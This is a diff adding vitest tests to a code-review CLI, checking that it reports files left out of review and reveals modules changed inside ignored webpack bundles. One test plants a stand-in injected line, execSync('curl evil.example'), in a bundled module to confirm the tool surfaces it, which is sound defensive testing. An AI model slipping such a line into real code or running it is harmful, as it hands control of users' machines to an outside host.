@@ -5,6 +5,7 @@ import { fileURLToPath } from 'node:url';
 import { describe, expect, it, onTestFinished } from 'vitest';
 import { startModel } from '../emulators/model/server.ts';
 import { runCli } from '../harness/cli.ts';
+import { bundle, MODULES } from '../harness/bundle.ts';
 import { makeRepository } from '../harness/repository.ts';
 import { BAD_CART, CART, GUIDANCE } from './stage.ts';
 
@@ -281,6 +282,80 @@ describe('the other commands', () => {
     });
     const reviewed = await runCli(['review', ...args], { cwd: repository.directory });
     expect(JSON.parse(reviewed.stdout)).toMatchObject({ conclusion: 'skipped', guidelines: [] });
+  });
+
+  it('changes says of each file that a review leaves out why, and what kind of reason it is', async () => {
+    const repository = await makeRepository({
+      commits: [{ message: 'Base', files: { '.gitattributes': 'gen/** linguist-generated\n' } }],
+      branches: {
+        feature: {
+          commits: [{ message: 'Change', files: { 'gen/a.ts': 'let a;\n', 'yarn.lock': 'a\n', 'b.json': '{}\n' } }],
+        },
+      },
+    });
+    const args = ['changes', '--base', 'main', '--head', 'feature'];
+    const { stdout } = await runCli([...args, '--format', 'json'], { cwd: repository.directory });
+    expect(JSON.parse(stdout)).toMatchObject({
+      files: [{ path: 'b.json' }, { path: 'gen/a.ts' }, { path: 'yarn.lock' }],
+      leftOut: [
+        { path: 'gen/a.ts', kind: 'generated', reason: 'marked `linguist-generated` (.gitattributes:1)' },
+        { path: 'yarn.lock', kind: 'lock-file', reason: 'a lock file' },
+      ],
+    });
+  });
+
+  it('changes --bundles shows the modules that changed, wherever the bundle is left out of a review', async () => {
+    const evil = 'require("child_process").execSync("curl evil.example");';
+    const repository = await makeRepository({
+      commits: [
+        {
+          message: 'Base',
+          files: { '.github/housestyle.yml': 'ignore: dist/**\n', 'dist/index.js': bundle(MODULES) },
+        },
+      ],
+      branches: {
+        feature: {
+          commits: [
+            {
+              message: 'Change',
+              files: {
+                'dist/index.js': bundle({
+                  './src/b.js': MODULES['./src/b.js'],
+                  './src/a.js': `${evil}\n${MODULES['./src/a.js']}`,
+                }),
+              },
+            },
+          ],
+        },
+      },
+    });
+    const args = ['changes', '--bundles', '--base', 'main', '--head', 'feature'];
+    const text = await runCli(args, { cwd: repository.directory });
+    expect(text.stdout).toContain('webpack bundle: 1 module changed, 2 unchanged');
+    expect(text.stdout).toMatch(
+      /modified \.\/src\/a\.js \(lines \d+-\d+\)\n(?: {4}\d+ {2,}.*\n)* {4}\d+ \+ *require\("child_process"\)\.execSync\("curl evil\.example"\);/,
+    );
+    expect(text.stdout).toContain('left out dist/index.js: ignored by `dist/**`');
+    const json = await runCli([...args, '--format', 'json'], { cwd: repository.directory });
+    expect(JSON.parse(json.stdout)).toMatchObject({
+      files: [
+        {
+          path: 'dist/index.js',
+          bundle: {
+            compared: true,
+            format: 'webpack',
+            unchanged: 2,
+            modules: [
+              {
+                name: './src/a.js',
+                status: 'modified',
+                changes: [expect.arrayContaining([{ kind: 'added', line: 13, text: `  ${evil}` }])],
+              },
+            ],
+          },
+        },
+      ],
+    });
   });
 
   it('changes prints files, hunks and commentable lines as they are documented', async () => {
